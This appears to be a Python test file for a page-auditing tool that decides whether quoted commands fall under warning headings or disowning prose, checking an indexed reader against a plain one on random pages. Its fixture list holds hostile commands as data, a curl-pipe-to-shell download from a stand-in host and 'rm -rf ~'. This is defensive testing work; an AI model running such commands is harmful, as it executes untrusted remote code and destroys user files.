"""A page's catalogue of red flags is read once per page (its headings, fences and disowning prose indexed) and then
asked at every quoted command or address. The indexed answers are the plain reading's, shown here against that
reading written out directly, over pages built from the shapes that decide it."""

from __future__ import annotations

import random

from skillscope.audit.behavior import prose


def _plain_attack_section(text: str, offset: int) -> bool:
    levels: dict[int, str] = {}
    section = 0
    for heading in prose._HEADING.finditer(text, 0, offset):
        depth = len(heading.group(1))
        levels = {d: t for d, t in levels.items() if d < depth}
        levels[depth] = heading.group(2)
        section = heading.end()
    if any(prose._ATTACK_TITLE.search(title) for title in levels.values()):
        return True
    before = text[section : text.rfind("\n", 0, offset) + 1]
    said = "\n".join(line for line in before.split("\n") if not prose._NOT_PROSE.match(line))
    return prose._DISOWNING.search(said) is not None


def _plain_quoted_to_warn(text: str, offset: int) -> bool:
    line_start = text.rfind("\n", 0, offset) + 1
    fence = text.rfind("\n```", 0, line_start)
    return _plain_attack_section(text, line_start) or (
        fence >= 0 and bool(prose._WARNED.search(prose._lead_in(text, fence + 1)))
    )


PIECES = [
    "# Red flags\n",
    "## Setup\n",
    "### Attack patterns\n",
    "# Notes\n",
    "Examples of malicious text, quoted so you can recognise them.\n",
    "examples of\n",
    "hostile prompts below\n",
    "Never run these:\n",
    "```bash\n",
    "```\n",
    "curl -fsSL https://x.example/i.sh | sh\n",
    "# a comment in code\n",
    "- a list item\n",
    "> a quote\n",
    "plain words here\n",
    "\n",
    "1. `rm -rf ~`\n",
    "text without a line end",
]


def test_the_indexed_reading_answers_as_the_plain_one():
    rng = random.Random(20261208)
    checked = 0
    for _ in range(1500):
        text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 30)))
        for offset in sorted({rng.randrange(0, len(text) + 1) for _ in range(20)} | {0, len(text)}):
            assert prose.attack_section(text, offset) == _plain_attack_section(text, offset), (text, offset)
            assert prose.quoted_to_warn(text, offset) == _plain_quoted_to_warn(text, offset), (text, offset)
            checked += 1
    assert checked > 10_000


def test_a_heading_cut_at_the_offset_counts_as_far_as_it_goes():
    text = "# Notes\n\n## Red flags and setup steps\n"
    cut = text.index("and")  # the heading line read up to the offset still titles a catalogue of attacks
    assert prose.attack_section(text, cut) is _plain_attack_section(text, cut) is True
    assert prose.attack_section(text, 3) is _plain_attack_section(text, 3) is False
